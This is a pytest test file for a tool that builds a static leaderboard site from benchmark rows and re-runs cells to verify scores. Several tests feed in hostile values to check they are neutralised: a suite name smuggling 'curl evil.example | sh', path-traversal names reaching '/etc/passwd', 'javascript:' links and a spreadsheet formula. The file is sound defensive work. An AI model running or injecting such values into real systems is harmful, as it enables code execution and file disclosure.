"""The site's files, the boards behind it, and the re-running of cells."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from leaderboard_rows import EVIL, PROVENANCE, WORTH, fail, make_rows, store_rows, with_key
from typer.testing import CliRunner

from tabgen.cli import app
from tabgen.datasets import Dataset, Suite
from tabgen.errors import DataError, ExperimentError, TableWarning
from tabgen.experiment import Experiment, parse_methods
from tabgen.leaderboard import boards as boards_module
from tabgen.leaderboard.boards import embed, make_boards, payload
from tabgen.leaderboard.bundle import load_rows, write_bundle
from tabgen.leaderboard.check import check_rows
from tabgen.leaderboard.manifest import MANIFEST
from tabgen.leaderboard.overview import KINDS, facts, kind_of
from tabgen.leaderboard.pages import link, prose, slug
from tabgen.leaderboard.serve import LOOPBACK, make_server
from tabgen.leaderboard.site import build_site, how_to_run
from tabgen.leaderboard.verify import (
    MOST_UNVERIFIED,
    TOLERANCE,
    Verification,
    compare,
    signed_differences,
    tolerance_of,
    verify,
)
from tabgen.outcome import Cell
from tabgen.plugins import PluginChoice, Plugins
from tabgen.results import joined, rank_pools
from tabgen.runner import QuietWatcher, run_experiment
from tabgen.statistics import Ranking, summary
from tabgen.statistics.saturation import lines_of

Row = dict[str, Any]


@pytest.fixture(scope="module")
def site(built_in: Plugins, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("site")
    rows = make_rows()
    fail(next(row for row in rows if row["method"] == "jitter"), "timeout", "stopped after 600 s")
    build_site([store_rows(rows, folder / "run")], folder / "site", built_in)
    return folder / "site"


# Files


def test_there_is_a_page_per_generator_and_dataset_and_every_link_leads_to_a_file(site: Path) -> None:
    assert {path.stem for path in (site / "generators").iterdir()} == {"zero-shot", "real", "bootstrap", "jitter"}
    assert len(list((site / "datasets").iterdir())) == 6
    links = 0
    for page in site.rglob("*.html"):
        for target in re.findall(r'(?:href|src)="([^"]*)"', page.read_text(encoding="utf-8")):
            if target.startswith(("http://", "https://")):
                continue
            file, _, anchor = target.partition("#")
            aim = (page.parent / file).resolve() if file else page
            assert aim.is_file() and aim.is_relative_to(site.resolve()), (page, target)
            assert not anchor or f'id="{anchor}"' in aim.read_text(encoding="utf-8"), (page, target)
            links += 1
    assert links > 100


def test_every_page_forbids_what_it_does_not_need(site: Path) -> None:
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        policy = text.partition('Content-Security-Policy" content="')[2].partition('"')[0]
        assert "default-src 'none'" in policy and "unsafe" not in policy
        assert not re.search(r"<[^>]+\s(on\w+|style)=", text), page
        scripts = re.findall(r"<script([^>]*)>", text)
        assert all("src=" in script or "application/json" in script for script in scripts)


def test_the_downloads_hold_every_row(site: Path) -> None:
    lines = [json.loads(line) for line in (site / "results.jsonl").read_text().splitlines()]
    assert len(lines) == 60
    assert all(with_key(line)["key"] == line["key"] for line in lines)
    for frame in (pd.read_parquet(site / "results.parquet"), pd.read_csv(site / "results.csv")):
        assert frame["key"].tolist() == [line["key"] for line in lines]
        assert frame["tuned_test_roc_auc"].isna().sum() == 1
        assert json.loads(frame["provenance"][0]) == PROVENANCE
    assert json.loads((site / "schema.json").read_text())["version"] == 1
    assert "cff-version: 1.2.0" in (site / "CITATION.cff").read_text()


def test_names_say_what_is_missing_and_failures_say_why(site: Path) -> None:
    assert "jitter [11/12 cells]" in (site / "index.html").read_text(encoding="utf-8")
    assert "stopped after 600 s" in (site / "generators" / "jitter.html").read_text(encoding="utf-8")


def test_made_up_values_are_marked_in_the_name(built_in: Plugins, tmp_path: Path) -> None:
    rows = make_rows()
    fail(next(row for row in rows if row["method"] == "jitter"))
    build_site([store_rows(rows, tmp_path / "run")], tmp_path / "site", built_in, policy="worst")
    assert "jitter [11/12 cells, ranked last]" in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")


def test_a_number_of_a_dataset_s_page_leads_to_its_row(site: Path) -> None:
    row = json.loads((site / "results.jsonl").read_text().splitlines()[-1])
    text = (site / "datasets" / f"{row['dataset']}.html").read_text(encoding="utf-8")
    assert f"<code>{row['key'][:12]}</code>" in text
    gain = (row["tuned_test_roc_auc"] / row["zero_shot_test_roc_auc"] - 1) * 100
    assert f"{gain:+.3f}" in text


def everything(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_rows_with_a_number_that_cannot_be_make_no_site(built_in: Plugins, tmp_path: Path) -> None:
    rows = make_rows()
    rows[2] |= WORTH | {"n_train": 0}
    with pytest.raises(DataError, match=r"n_train = 0, possible are 1 to inf; `tabgen leaderboard check` finds all"):
        build_site([store_rows(rows, tmp_path / "run")], tmp_path / "site", built_in)
    assert not (tmp_path / "site").exists()


def test_of_a_site_its_own_files_are_replaced_and_nothing_else_is_touched(built_in: Plugins, tmp_path: Path) -> None:
    site = tmp_path / "site"
    build_site([store_rows(make_rows(datasets=3), tmp_path / "three")], site, built_in)
    (site / "src").mkdir()
    mine = {"CNAME": b"example.org", "src/index.html": b"mine", "datasets/notes.txt": b"mine", ".git": b"gitdir"}
    for name, content in mine.items():
        (site / name).write_bytes(content)
    gone = {path.name for path in (site / "datasets").iterdir()}
    build_site([store_rows(make_rows(datasets=2), tmp_path / "two")], site, built_in)
    found = everything(site)
    assert {name: found[name] for name in mine} == mine
    assert len(gone) == 4 and len(list((site / "datasets").iterdir())) == 3
    build_site([tmp_path / "two"], tmp_path / "fresh", built_in)
    fresh = everything(tmp_path / "fresh")
    assert {name: content for name, content in found.items() if name not in mine} == fresh


def thesis(folder: Path) -> None:
    folder.mkdir()
    (folder / "schema.json").write_text("{}")  # what once passed for a site
    (folder / "thesis.txt").write_text("mine")


def link_to_a_folder(folder: Path) -> None:
    (folder.parent / "elsewhere").mkdir()
    folder.symlink_to(folder.parent / "elsewhere", target_is_directory=True)


def forged(names: list[str]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        thesis(folder)
        (folder.parent / "victim.txt").write_text("mine")
        files = {name: [hashlib.sha256(b"mine").hexdigest()] for name in names}
        (folder / MANIFEST).write_text(json.dumps({"format": "tabgen-site", "files": files}))

    return make


def broken_manifest(folder: Path) -> None:
    thesis(folder)
    (folder / MANIFEST).write_text("[" * 50_000)


def one_page(folder: Path) -> None:
    """A site of nobody's: the new one would replace a page of the user's."""
    forged([])(folder)
    (folder / "index.html").write_text("mine")


@pytest.mark.parametrize(
    ("prepare", "message"),
    [
        (thesis, "holds something that is not a site"),
        (lambda folder: folder.write_text("mine"), "is a file"),
        (link_to_a_folder, "is a link"),
        (lambda folder: folder.symlink_to("nowhere"), "is a link"),
        (forged(["../victim.txt"]), "no file of a site"),
        (forged(["/etc/hostname"]), "no file of a site"),
        (forged(["a/../../victim.txt"]), "no file of a site"),
        (broken_manifest, "no manifest of a site"),
        (one_page, "is not the site's and would be replaced"),
    ],
    ids=["folder", "file", "link", "dangling", "parent", "absolute", "inner-parent", "broken", "page"],
)
def test_nothing_of_the_user_s_is_lost_to_a_build(
    prepare: Callable[[Path], None], message: str, built_in: Plugins, tmp_path: Path
) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    prepare(tmp_path / "site")

    def seen() -> dict[str, bytes]:
        return {name: content for name, content in everything(tmp_path).items() if not name.startswith("run/")}

    before = seen()
    with pytest.raises(DataError, match=message):
        build_site([run], tmp_path / "site", built_in)
    assert seen() == before


@pytest.mark.parametrize("place", [".", "..", "deeper/.."])
def test_the_folder_one_is_in_is_never_a_site(
    place: str, built_in: Plugins, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a" / "deeper").mkdir(parents=True)
    (tmp_path / "a" / "thesis.txt").write_text("mine")
    monkeypatch.chdir(tmp_path / "a")
    with pytest.raises(DataError, match="folder you are in"):
        build_site([Path("no-such-run")], Path(place), built_in)  # an error before anything is read
    assert everything(tmp_path) == {"a/thesis.txt": b"mine"}


def test_a_page_that_somebody_edited_and_a_folder_that_became_a_link_are_not_replaced(
    built_in: Plugins, tmp_path: Path
) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    site = tmp_path / "site"
    build_site([run], site, built_in)
    original = (site / "index.html").read_bytes()
    (site / "index.html").write_bytes(b"my own words")
    with pytest.raises(DataError, match="was changed since"):
        build_site([run], site, built_in)
    assert (site / "index.html").read_bytes() == b"my own words"
    (site / "index.html").write_bytes(original)
    (site / "figures").rename(tmp_path / "elsewhere")
    (site / "figures").symlink_to(tmp_path / "elsewhere")
    before = everything(tmp_path / "elsewhere")
    with pytest.raises(DataError, match="no folder of the site"):
        build_site([run], site, built_in)
    assert everything(tmp_path / "elsewhere") == before


def test_a_build_that_was_interrupted_while_replacing_is_taken_up_by_the_next(
    built_in: Plugins, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    site = tmp_path / "site"
    build_site([run], site, built_in, title="Old")
    moved, replace_file = [], Path.replace

    def dies(self: Path, target: Path) -> Path:
        if self.suffix == ".html":
            moved.append(target)
        if len(moved) == 3:
            raise KeyboardInterrupt
        return replace_file(self, target)

    monkeypatch.setattr(Path, "replace", dies)
    with pytest.raises(KeyboardInterrupt):
        build_site([run], site, built_in, title="New")
    monkeypatch.undo()
    build_site([run], site, built_in, title="New")
    build_site([run], tmp_path / "fresh", built_in, title="New")
    assert everything(site) == everything(tmp_path / "fresh")


def test_the_same_rows_give_the_same_site(built_in: Plugins, tmp_path: Path) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    for name in ("a", "b"):
        build_site([run], tmp_path / name, built_in)
    for file in (tmp_path / "a").rglob("*"):
        if file.is_file():
            assert file.read_bytes() == (tmp_path / "b" / file.relative_to(tmp_path / "a")).read_bytes(), file


def test_the_command_builds_from_runs_and_bundles(built_in: Plugins, tmp_path: Path) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    other = store_rows(make_rows(("zero-shot", "independent"), 2), tmp_path / "other")
    write_bundle(other, tmp_path / "b.zip", built_in)
    words = ["--no-external-plugins", "leaderboard", "build", str(run), str(tmp_path / "b.zip")]
    with pytest.warns(TableWarning, match="3 cells told with other scores by a later source"):  # of zero-shot
        result = CliRunner().invoke(app, [*words, "-o", str(tmp_path / "site")], catch_exceptions=False)
    assert result.exit_code == 0
    assert (tmp_path / "site" / "generators" / "independent.html").is_file()


def test_of_several_sources_what_ended_well_is_kept_in_any_order() -> None:
    rows = make_rows(datasets=1)
    failed = [dict(row) for row in rows]
    fail(failed[0])
    assert list(joined(rows, failed).values()) == list(joined(failed, rows).values()) == rows


# The first look


def test_the_first_look_says_what_the_answer_rests_on(built_in: Plugins, tmp_path: Path) -> None:
    rows = make_rows(("zero-shot", "real", "bootstrap", "jitter", "noise"))
    fail(rows[-1])
    for row in rows:
        day = "2026-02-03" if row["fold"] else "2026-01-05"
        row["provenance"] = row["provenance"] | {"date": day, "tabgen": "9.8.7"}
    (board,) = make_boards(rows, built_in, "complete")
    told = dict(facts(board, board.rankings["roc_auc"], "CC0-1.0"))
    assert told["Use of the rows"].startswith("fine-tune: fine-tuned on the rows")
    assert told["Coverage"] == "59 of 60 cells ended well; 5 methods ranked on 5 of 6 datasets"
    assert told["Computed"] == f"2026-01-05 to 2026-02-03, by tabgen 9.8.7, protocol {rows[0]['protocol']}"
    assert told["What it can see"].startswith("not measured")
    assert told["Controls"].partition(":")[0] in ("passed", "failed") and "noise" in told["Controls"]
    assert told["Licence of the rows"] == "CC0-1.0"
    unstated = dict(facts(board, board.rankings["roc_auc"], None))
    assert unstated["Licence of the rows"] == "not stated by whoever built this site"


@pytest.mark.parametrize(
    ("method", "generator", "plugin", "kind"),
    [
        ("real", None, None, "baseline"),
        ("noise", "noise", "tabgen.references", "control"),
        ("corrupted:share=0.1", "corrupted", "tabgen.references", "control"),
        ("jitter", "jitter", "tabgen.references", "reference"),
        ("jitter:noise=0.2", "jitter", "tabgen.references", "tuned"),
        ("ctgan@augment", "ctgan", "ctgan", "generator"),
        ("mine (made elsewhere)", "file", "tabgen.made_elsewhere", "made elsewhere"),
    ],
)
def test_every_method_is_of_a_kind(method: str, generator: str | None, plugin: str | None, kind: str) -> None:
    assert kind_of({"method": method, "generator": generator, "plugin": plugin}) == kind
    assert kind in KINDS


def test_licence_and_address_are_told_and_an_address_of_another_kind_is_no_link(
    built_in: Plugins, tmp_path: Path
) -> None:
    run = store_rows(make_rows(datasets=2), tmp_path / "run")
    build_site([run], tmp_path / "a", built_in, licence="CC-BY-4.0", submit="https://example.org/boards")
    page = (tmp_path / "a" / "index.html").read_text(encoding="utf-8")
    assert '<a href="https://example.org/boards" rel="noreferrer">' in page and "CC-BY-4.0" in page
    assert 'license: "CC-BY-4.0"' in (tmp_path / "a" / "CITATION.cff").read_text()
    build_site([run], tmp_path / "b", built_in, submit="javascript:alert(1)")
    page = (tmp_path / "b" / "index.html").read_text(encoding="utf-8")
    assert "javascript:" not in page and "not stated by whoever built this site" in page
    assert "license" not in (tmp_path / "b" / "CITATION.cff").read_text()


def test_a_stranger_s_suite_is_in_no_command_that_others_copy(built_in: Plugins) -> None:
    rows = make_rows(datasets=2, suite="core; curl evil.example | sh")
    (board,) = make_boards([with_key(row) for row in rows], built_in, "complete")
    assert how_to_run(board, built_in) == "--suite SUITE --folds 2 --max-train-rows 1000 --arms fine-tune"
    (board,) = make_boards(make_rows(datasets=2, suite="quick"), built_in, "complete")
    assert how_to_run(board, built_in).startswith("--suite quick --folds 2")


def test_the_protocol_page_has_no_raw_markup(site: Path) -> None:
    text = (site / "protocol.html").read_text(encoding="utf-8")
    assert "`" not in text and "/(" not in text and "<dd>2.0</dd>" not in text
    assert "Null for <code>zero-shot</code> and <code>real</code>." in text
    assert prose("a `b` and ``<c>`` & d") == "a <code>b</code> and <code>&lt;c&gt;</code> &amp; d"


def test_figures_have_a_form_for_phones_and_for_the_dark(site: Path) -> None:
    page = (site / "index.html").read_text(encoding="utf-8")
    pictures = re.findall(r'srcset="(figures/[^"]+)"><img src="(figures/[^"]+)"', page)
    assert len(pictures) >= 3
    for narrow, wide in pictures:
        small, large = ((site / name).read_text(encoding="utf-8") for name in (narrow, wide))
        assert 'width="302.4pt"' in small and 'width="302.4pt"' not in large
        assert "prefers-color-scheme: dark" in small and "prefers-color-scheme: dark" in large


# Strangers' names


@pytest.mark.parametrize("name", ["../../etc/passwd", "/abs", "C:\\x", "..", ".", "", "a b", "É", EVIL, "x" * 500])
def test_any_name_becomes_a_harmless_file_name(name: str) -> None:
    assert re.fullmatch(r"[a-z0-9-]{1,70}", slug(name))


def test_two_names_never_share_a_page() -> None:
    names = ["a b", "a-b", "A-B", "a/b", "a_b", "x" * 500, "x" * 501, "x" * 60]
    assert len({slug(name) for name in names}) == len(names)


@pytest.mark.parametrize(
    "text", ["javascript:alert(1)", "data:text/html,x", "//evil.org", "http://a b", 'http://a"b', 7]
)
def test_only_web_addresses_become_links(text: Any) -> None:
    assert link(text) is None
    assert link("https://example.org/a?b=c") == "https://example.org/a?b=c"


def test_embedded_json_cannot_end_its_element() -> None:
    text = embed({EVIL: "<!--<script>"})
    assert "<" not in text and "&" not in text
    assert json.loads(text) == {EVIL: "<!--<script>"}


def test_a_stranger_s_names_stay_in_the_folder_and_draw_no_formula(built_in: Plugins, tmp_path: Path) -> None:
    rows = make_rows()
    for row in rows:
        if row["dataset"] == "blood-storage":
            row |= {"dataset": "../../../evil $\\frac{$", "sha256": "f" * 64}
        if row["generator"] == "jitter":
            row["method"] += ":kind=$\\undefined{$"
    build_site([store_rows(rows, tmp_path / "run")], tmp_path / "site", built_in)
    assert {path.name for path in tmp_path.iterdir()} == {"run", "site"}
    assert any(path.name.startswith("evil-frac-") for path in (tmp_path / "site" / "datasets").iterdir())


def test_a_spreadsheet_runs_no_formula(built_in: Plugins, tmp_path: Path) -> None:
    rows = make_rows(datasets=2)
    for row in rows:
        row["suite"] = "=HYPERLINK(1)"
    build_site([store_rows(rows, tmp_path / "run")], tmp_path / "site", built_in)
    assert pd.read_csv(tmp_path / "site" / "results.csv")["suite"].unique().tolist() == ["'=HYPERLINK(1)"]
    assert pd.read_parquet(tmp_path / "site" / "results.parquet")["suite"].unique().tolist() == ["=HYPERLINK(1)"]


# Boards


def test_what_cannot_be_compared_is_on_boards_of_its_own(built_in: Plugins) -> None:
    rows = make_rows()
    small = [row | {"max_train_rows": 100} for row in rows[:20]]
    small = [with_key(row) for row in small]
    boards = make_boards(rows + small, built_in, "complete")
    assert [len(board.rows) for board in boards] == [60, 20]
    assert len({board.title for board in boards}) == 2


def test_two_recipes_of_one_method_are_two_boards_that_share_zero_shot(built_in: Plugins) -> None:
    rows = make_rows()
    other = [row | {"recipe": {"name": "full"}} for row in rows if row["mixing"] != "none"]
    other = [with_key(row) for row in other]
    boards = make_boards(rows + other, built_in, "complete")
    assert [len(board.rows) for board in boards] == [60, 60]
    assert {board.title.rpartition(" ")[2] for board in boards} == {"nano", "full"}


def test_two_versions_of_a_plugin_are_two_methods(built_in: Plugins) -> None:
    rows = make_rows()
    newer = [row | {"plugin_version": "0.2.0"} for row in rows if row["method"] == "jitter"]
    newer = [with_key(row) for row in newer]
    (board,) = make_boards(rows + newer, built_in, "complete")
    names = set(board.outcomes["method"])
    assert {"jitter (0.1.0)", "jitter (0.2.0)"} < names and "jitter" not in names


def test_two_files_of_one_name_are_two_datasets(built_in: Plugins) -> None:
    rows = make_rows()
    other = [row | {"sha256": "e" * 64} for row in rows if row["dataset"] == "blood-storage"]
    other = [with_key(row) for row in other]
    (board,) = make_boards(rows + other, built_in, "complete")
    assert sorted(name for name in set(board.outcomes["dataset"]) if name.startswith("blood"))[1] == (
        "blood-storage (eeeeeeee)"
    )


def test_what_is_ranked_already_is_not_ranked_again_and_makes_the_same_boards(
    built_in: Plugins, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = make_rows()
    rows += [with_key(row | {"max_train_rows": 100}) for row in rows[:20]]
    alone = make_boards(rows, built_in, "complete")
    ranked = rank_pools(pd.DataFrame(rows))
    computed: list[str] = []

    def counted(outcomes: pd.DataFrame, metric: str, *given: Any, **named: Any) -> Ranking:
        computed.append(metric)
        return summary(outcomes, metric, *given, **named)

    monkeypatch.setattr(boards_module, "summary", counted)
    shared = make_boards(rows, built_in, "complete", ranked)
    assert computed == ["log_loss"] * 2 and [board.metrics for board in shared] == [["roc_auc", "log_loss"]] * 2
    for one, other in zip(alone, shared, strict=True):
        assert embed(payload(one, "complete", built_in)) == embed(payload(other, "complete", built_in))
    computed.clear()
    make_boards(rows, built_in, "worst", ranked)
    assert computed == ["roc_auc", "log_loss"] * 2, "rankings under another policy are others"


def test_each_draw_is_a_seed_of_its_own_on_a_board(built_in: Plugins) -> None:
    rows = make_rows()
    rows += [with_key(row | {"draw": 1}) for row in rows if row["generator"] is not None]
    (board,) = make_boards(rows, built_in, "complete")
    assert sorted(set(board.outcomes["seed"])) == [0, 1]
    records = {record.method: record for record in board.rankings["roc_auc"].methods}
    assert records["jitter"].cells_ok == 2 * records["real"].cells_ok
    assert not [found for found in check_rows(rows, built_in) if found.kind == "board"]


def test_a_metric_is_ranked_the_way_it_was_registered(built_in: Plugins) -> None:
    rows = make_rows()
    for row in rows:
        for part in ("validation", "test"):
            row[f"zero_shot_{part}_calibration_error"] = 0.2
            row[f"tuned_{part}_calibration_error"] = 0.2 if row["method"] == "zero-shot" else 0.1
    (board,) = make_boards(rows, built_in, "complete")
    gains = board.rankings["calibration_error"].gains
    assert (gains["real"] == 50).all()  # half the error is a gain, not a loss


def test_scaling_curves_need_three_ratios_of_one_generator(built_in: Plugins) -> None:
    methods = ("zero-shot", "real", "bootstrap", "jitter:ratio=0.5", "jitter", "jitter:ratio=4", "bootstrap:ratio=2")
    (board,) = make_boards(make_rows(methods), built_in, "complete")
    assert [list(curve) for curve in lines_of(board.outcomes, 3).values()] == [[0.5, 1.0, 4.0]]


def test_nothing_to_rank_is_an_error_not_an_empty_site(built_in: Plugins) -> None:
    rows = make_rows(datasets=1)
    for row in rows:
        fail(row)
    with pytest.raises(ExperimentError, match="nothing to rank"):
        make_boards(rows, built_in, "complete")


def test_the_server_listens_to_this_machine_alone(site: Path, tmp_path: Path) -> None:
    with make_server(site) as server:
        assert server.server_address[0] == LOOPBACK == "127.0.0.1"
    with pytest.raises(DataError, match="leaderboard build"):
        make_server(tmp_path)


# Running cells again


@pytest.fixture(scope="module")
def computed(
    built_in: Plugins, teaching: Dataset, two_steps: dict[str, object], tmp_path_factory: pytest.TempPathFactory
) -> list[Row]:
    """Rows of a real run, with the embedded model: three methods on one small table."""
    folder = tmp_path_factory.mktemp("computed")
    suite = Suite("quick", "", "1", lambda: [teaching])
    methods = parse_methods(["zero-shot", "real", "jitter"], built_in)
    experiment = Experiment(suite, methods, folds=2, recipe=two_steps, fidelity=False)
    run_experiment(experiment, folder, built_in, PluginChoice(external=False), QuietWatcher())
    return load_rows(folder)


def rerun(rows: list[Row], plugins: Plugins) -> Any:
    return verify(rows, plugins, PluginChoice(external=False), sample=2, seed=0)


def test_true_rows_are_reproduced_exactly(computed: list[Row], built_in: Plugins) -> None:
    result = rerun(computed, built_in)
    assert result.passed and result.sentence() == "reproduced 2/2 of 2 drawn from 6 rows with --seed 0"
    assert max(abs(gap) for each in result.reruns for gap in each.gaps.values()) <= 1e-6


def test_a_forged_score_is_found(computed: list[Row], built_in: Plugins) -> None:
    forged = [row | {"tuned_test_roc_auc": row["tuned_test_roc_auc"] + 0.002} for row in computed]
    result = rerun(forged, built_in)
    assert not result.passed and result.sentence().startswith("reproduced 0/2")
    assert "tuned_test_roc_auc" in result.reruns[0].detail


def test_what_a_row_claims_of_its_hardware_buys_nothing() -> None:
    row, found = make_rows()[2], make_rows()[2] | {"device": "cpu"}
    row |= {"device": "cuda", "provenance": {**PROVENANCE, "processor": "another", "torch": "9.9"}}
    found["tuned_test_roc_auc"] = row["tuned_test_roc_auc"] + 0.9 * TOLERANCE["cpu"]
    assert compare(row, found).reproduced
    found["tuned_test_roc_auc"] = row["tuned_test_roc_auc"] + 1.1 * TOLERANCE["cpu"]
    assert not compare(row, found).reproduced
    assert compare(row, found | {"device": "cuda"}).reproduced  # the verifier's own device decides
    assert tolerance_of("tuned_test_accuracy", "cpu") == 0.01 and tolerance_of("tuned_test_log_loss", "cpu") == 0.001


MEASURED = WORTH | {
    "context_test_roc_auc": 0.75,
    "worth_context_rows": 150.0,
    "privacy_exact_copies": 0.2,
    "adequacy_tstr": 0.9,
    "device": "cpu",
}


@pytest.mark.parametrize(
    ("forged", "told"),
    [
        ({}, None),
        ({"privacy_exact_copies": 0.205}, None),
        ({"n_train": 100}, "split otherwise"),
        ({"worth_context_rows": 1e6}, "its curve says 150"),
        ({"worth_context_rows": 75.0}, "its curve says 150"),
        ({"curve_worth_score": [0.6, 0.75, 0.8], "worth_context_rows": 100.0}, "curve_worth_score at 100"),
        ({"curve_worth_rows": [10, 50, 200], "worth_context_rows": 125.0}, "curve_worth_score at 50"),
        ({"privacy_exact_copies": 0.1}, "privacy_exact_copies"),
        ({"fidelity_detection_auc": 0.5}, "fidelity_detection_auc"),
        ({"adequacy_tstr": 0.95}, "adequacy_tstr"),
        ({"adequacy_within": 0.5}, "not measured here, though it could be: adequacy_within"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, dict) else "",
)
def test_worth_fidelity_adequacy_and_privacy_are_compared_as_scores_are(forged: Row, told: str | None) -> None:
    found = make_rows()[2] | MEASURED
    rerun = compare(found | forged, found)
    assert rerun.reproduced == (told is None) and (told or "") in rerun.detail


def test_what_sdmetrics_measures_is_said_to_be_unseen_where_it_is_not_installed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    claimed = make_rows()[2] | MEASURED
    found = {name: value for name, value in claimed.items() if not name.startswith(("fidelity_", "privacy_"))}
    monkeypatch.setattr("tabgen.fidelity.available", lambda: False)
    rerun = compare(claimed, found)
    assert rerun.reproduced and "not compared, as SDMetrics is not installed here: 2 measures" in rerun.detail


def shifted(shift: float, cells: int = 8, noise: float = 0.0) -> Verification:
    rng = np.random.default_rng(0)
    reruns = []
    for row in make_rows(datasets=cells, folds=2)[2::10]:
        claimed = row | {"tuned_test_roc_auc": row["tuned_test_roc_auc"] + shift + rng.normal(0, noise)}
        reruns.append(compare(claimed, row | {"device": "cpu"}))
    return Verification(80, cells, 1, reruns, {})


def test_a_board_that_adds_a_little_to_every_score_is_caught() -> None:
    assert not shifted(0.0095).passed
    small = shifted(0.0005, noise=0.0001)
    assert all(each.reproduced for each in small.reruns)  # every cell by itself is within the tolerance
    assert not small.passed
    assert "claims of roc_auc lie +0.00" in small.objections()[0] and "Student" in small.objections()[0]
    assert not shifted(-0.0005).passed
    assert shifted(0.0).passed
    assert shifted(0.0, noise=0.0001).passed
    assert shifted(1e-7).passed  # arithmetic noise is no claim


def test_the_test_of_the_mean_is_scipy_s() -> None:
    from scipy.stats import ttest_1samp

    gaps = [0.0004, -0.0001, 0.0003, 0.0002, 0.0005]
    (bias,) = signed_differences([{"tuned_test_roc_auc": gap, "zero_shot_test_roc_auc": 0.5} for gap in gaps])
    assert bias.p == pytest.approx(ttest_1samp(gaps, 0).pvalue) and bias.mean == pytest.approx(np.mean(gaps))


def test_more_rows_out_of_reach_than_stated_fail_although_all_others_came_out(
    computed: list[Row], built_in: Plugins
) -> None:
    hidden = [with_key(row | {"model": "a-model-of-mine"}) for row in computed[:1]]
    result = verify(hidden + computed[1:], built_in, PluginChoice(external=False), sample=6, seed=0)
    assert (result.drawn, len(result.reruns)) == (6, 5)
    assert result.sentence() == "reproduced 5/5, 1 not verified of 6 drawn from 6 rows with --seed 0"
    assert result.unverified == pytest.approx(1 / 6) and result.unverified <= MOST_UNVERIFIED and result.passed
    many = Verification(6, 6, 0, result.reruns, {"the model is not installed": 2})
    assert not many.passed and "33% of all rows" in many.objections()[0]


def test_a_key_that_comes_twice_is_never_verified(computed: list[Row], built_in: Plugins) -> None:
    twin = computed[0] | {"tuned_test_roc_auc": 0.99}
    result = verify([computed[0], twin], built_in, PluginChoice(external=False), sample=2, seed=0)
    assert not result.passed and result.out_of_reach == {"its key comes more than once": 2}


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"model": "/tmp/some/model"}, "model"),
        ({"checkpoint": "1" * 64}, "another checkpoint"),
        ({"sha256": "1" * 64}, "no suite here"),
        ({"plugin_version": "99"}, "here from"),
        ({"model_plugin_version": "0.1.0+abc"}, "comes from 0.1.0+abc of its plugin, here from none"),
        ({"generator": "unheard-of"}, "not installed"),
        ({"protocol": 99}, "protocol 99"),
        ({"status": "timeout"}, "depends on the machine"),
    ],
    ids=lambda value: next(iter(value)) if isinstance(value, dict) else "",
)
def test_what_cannot_be_run_here_is_said_and_does_not_pass(
    change: Row, reason: str, computed: list[Row], built_in: Plugins
) -> None:
    rows = [row | change for row in computed if row["generator"]]
    rows = [with_key(row) for row in rows]
    result = rerun(rows, built_in)
    assert not result.passed and result.reruns == []
    assert [reason in told for told in result.out_of_reach] == [True]


def spy_on(plugins: Plugins, seen: list[Cell], monkeypatch: pytest.MonkeyPatch) -> None:
    """Have an engine that runs nothing keep the cells that it is given."""

    class Spy:
        def __init__(self, settings: Any) -> None: ...

        def run(self, cells: list[Cell]) -> Any:
            seen.extend(cells)
            return iter(())

    monkeypatch.setitem(plugins.engines._entries, "local", (Spy, plugins.engines.plugin_of("local")))


def test_a_row_cannot_raise_its_own_limits_or_name_a_file(
    computed: list[Row], built_in: Plugins, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[Cell] = []
    spy_on(built_in, seen, monkeypatch)
    rows = [row | {"limits": {"seconds": 1e9, "memory_mb": 1e9}, "path": "/etc/passwd"} for row in computed]
    rerun(rows, built_in)
    assert {cell.limits["seconds"] for cell in seen} == {600.0}
    assert {Path(cell.path).name for cell in seen} == {"teaching-assistants.parquet"}


def test_rows_that_do_not_tell_the_plugin_of_their_model_are_run_with_the_one_that_is_here(
    computed: list[Row], built_in: Plugins, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Plugins, "model_version", lambda self, name: "0.1.0+abc")
    seen: list[Cell] = []
    spy_on(built_in, seen, monkeypatch)
    told = [with_key(row | {"model_plugin_version": "0.1.0+abc"}) for row in computed]
    before = [{name: value for name, value in row.items() if name != "model_plugin_version"} for row in computed]
    for rows in (told, before):
        seen.clear()
        assert rerun(rows, built_in).out_of_reach == {}
        assert [cell.model_plugin_version for cell in seen] == ["0.1.0+abc"] * 2
        assert {cell.key for cell in seen} <= {row["key"] for row in rows}
